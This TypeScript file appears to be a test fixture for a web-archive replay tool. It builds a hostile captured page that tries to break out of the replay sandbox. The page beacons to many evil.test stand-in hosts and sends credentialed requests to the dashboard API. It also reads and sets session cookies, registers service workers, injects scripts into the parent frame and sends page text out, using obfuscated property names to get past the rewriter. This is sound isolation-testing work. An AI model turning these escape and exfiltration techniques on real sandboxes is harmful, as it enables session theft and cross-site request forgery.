// A captured page that tries everything to get out of its replay: to the API, to the dashboard
// around it, to a server of its own. What it managed stands in `#loot`, one line each.

export interface Aims {
  /** Of the dashboard and API. */
  readonly dashboard: string;
  /** Where a STUN server would listen (UDP). */
  readonly stunPort: number;
}

/** `evil.test` and all its names are the attacker's. */
export function hostilePage({ dashboard, stunPort }: Aims): string {
  return `<!doctype html>
<html lang="zh"><head><meta charset="utf-8"><title>东海医院</title>
<meta http-equiv="refresh" content="600;url=http://refresh.evil.test/">
<link rel="preconnect" href="https://preconnect.evil.test">
<link rel="dns-prefetch" href="//dns.evil.test">
<link rel="prefetch" href="http://prefetch.evil.test/a">
<link rel="modulepreload" href="http://module.evil.test/a.js">
<link rel="stylesheet" href="http://style.evil.test/a.css">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://rules.evil.test/"]}]}</script>
<style>@import "http://import.evil.test/a.css"; @font-face { font-family: x; src: url(http://font.evil.test/x) } body { font-family: x; background: url(http://background.evil.test/) }</style>
</head><body>
<pre id="loot">not run</pre>
<form id="form" method="post" action="http://form.evil.test/"><input name="q" value="1"><button id="submit">x</button></form>
<form id="change" method="post" action="${dashboard}/api/v1/captures" target="_top"><input name="all" value="true"></form>
<a id="ping" href="#x" ping="http://ping.evil.test/">x</a>
<h1>等待时间两周</h1><img id="logo" src="/图.png" alt="">
<img src="http://image.evil.test/a.png"><img srcset="http://srcset.evil.test/a.png 2x">
<iframe src="http://frame.evil.test/"></iframe><iframe src="${dashboard}/"></iframe>
<iframe srcdoc="<img src=http://srcdoc.evil.test/><script>parent.postMessage('hi','*')</script>"></iframe>
<object data="http://object.evil.test/"></object><embed src="http://embed.evil.test/">
<video src="http://video.evil.test/" poster="http://poster.evil.test/" autoplay></video>
<svg><image href="http://svg.evil.test/a.png"/><use href="http://use.evil.test/a.svg#a"/></svg>
<script>
const loot = [];
const tell = (name, got) => loot.push(name + ': ' + got);
const attempt = async (name, act) => {
  try { const got = await act(); if (got !== undefined) tell(name, got); } catch { /* it was kept from it */ }
};
const soon = (ms) => new Promise((done) => setTimeout(done, ms));
// The rewriter puts its own window before scripts: these are the browser's own.
const own = Function('return this')();
const outer = own['par' + 'ent'];
const clean = document.body.appendChild(document.createElement('iframe')).contentWindow;
const spy = 'new Image().src="http://eval.evil.test/"; fetch("http://evalfetch.evil.test/")';

const attacks = {
  async reach() {
    for (const [name, from] of Object.entries({ own, clean, outer })) {
      for (const mode of ['cors', 'no-cors']) {
        for (const url of ['${dashboard}/api/v1/watches', 'http://fetch.evil.test/' + name]) {
          await attempt(name + ' fetch ' + mode + ' ' + url, async () => {
            const answer = await from['fet' + 'ch'](url, { mode, credentials: 'include' });
            if (answer.type === 'opaque') return 'sent';
            return answer.ok ? await answer.text() : undefined;
          });
        }
      }
      await attempt(name + ' change', async () => (await from.fetch('${dashboard}/api/v1/captures', {
        method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"all":true}' })).type);
      await attempt(name + ' beacon', () => void from.navigator.sendBeacon('http://beacon.evil.test/', 'x'));
      await attempt(name + ' image', () => { new from.Image().src = 'http://newimage.evil.test/' + name; });
      await attempt(name + ' socket', () => { new from.WebSocket('ws://socket.evil.test/'); });
      await attempt(name + ' source', () => { new from.EventSource('${dashboard}/api/v1/events', { withCredentials: true }); });
      await attempt(name + ' rtc', async () => {
        const peer = new from.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stunPort}' }] });
        peer.createDataChannel('x');
        await peer.setLocalDescription();
      });
      await attempt(name + ' transport', async () => { await Promise.race([new from.WebTransport('https://transport.evil.test/').ready, soon(300)]); });
    }
    await attempt('import', () => import('http://dynamic.evil.test/a.js').then(() => 'ran'));
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'icon']) {
      const link = outer.document.createElement('link');
      Object.assign(link, { rel, href: 'https://' + rel + '2.evil.test/x', as: 'image' });
      outer.document.head.append(link);
    }
  },
  async workers() {
    await attempt('worker', () => {
      const blob = URL.createObjectURL(new Blob([spy], { type: 'text/javascript' }));
      new own.Worker(blob);
      new clean.Worker(blob);
    });
    for (const path of ['evil.js', 'w/evil.js', location.href]) {
      await attempt('service worker ' + path, () => own.navigator.serviceWorker.register(path).then(() => 'registered'));
    }
    await attempt('engine', () => own.navigator.serviceWorker.controller.postMessage({
      msg_type: 'addColl', name: 'evil', type: 'wacz', file: { sourceUrl: 'http://engine.evil.test/a.wacz' } }));
  },
  async around() {
    await attempt('top document', () => own['to' + 'p'].document.title);
    await attempt('top storage', () => own['to' + 'p'].localStorage.length);
    await attempt('cookies', () => own.document.cookie.includes('vestige') ? own.document.cookie : undefined);
    await attempt('outer cookies', () => outer.document.cookie.includes('vestige') ? 'read' : undefined);
    await attempt('set', () => { outer.document.cookie = 'vestige_session=' + 'x'.repeat(43) + '; path=/api'; });
    own['to' + 'p'].postMessage({ type: 'sign-out', href: 'http://message.evil.test/' }, '*');
    await attempt('open', () => own.open('http://popup.evil.test/') === null ? undefined : 'opened');
    await attempt('outer open', () => outer.open('http://popup.evil.test/') === null ? undefined : 'opened');
    document.getElementById('ping').click();
    for (const id of ['form', 'change']) await attempt(id, () => document.getElementById(id).submit());
    await attempt('top', () => { own['to' + 'p'].location = 'http://top.evil.test/'; });
    await attempt('top of outer', () => { outer.eval("window.top.location = 'http://top2.evil.test/'"); });
  },
  /** Out of our own frame by its own powers, and at last away from here. */
  async leave() {
    await attempt('unbound frame', () => {
      const frame = outer.document.createElement('iframe');
      frame.src = 'http://unbound.evil.test/';
      outer.document.body.append(frame);
    });
    await attempt('script', () => {
      const script = outer.document.createElement('script');
      script.src = 'http://script.evil.test/';
      outer.document.head.append(script);
    });
  },
};
(async () => {
  for (const act of Object.values(attacks)) await attempt('', act);
  await soon(700);
  document.getElementById('loot').textContent = loot.filter(Boolean).join('\\n') || 'nothing';
  document.title = 'tried';
})();
addEventListener('message', ({ data }) => {
  if (data === 'go away') own.location.href = 'http://away.evil.test/?' + encodeURIComponent(document.body.innerText.slice(0, 50));
});
</script></body></html>`;
}
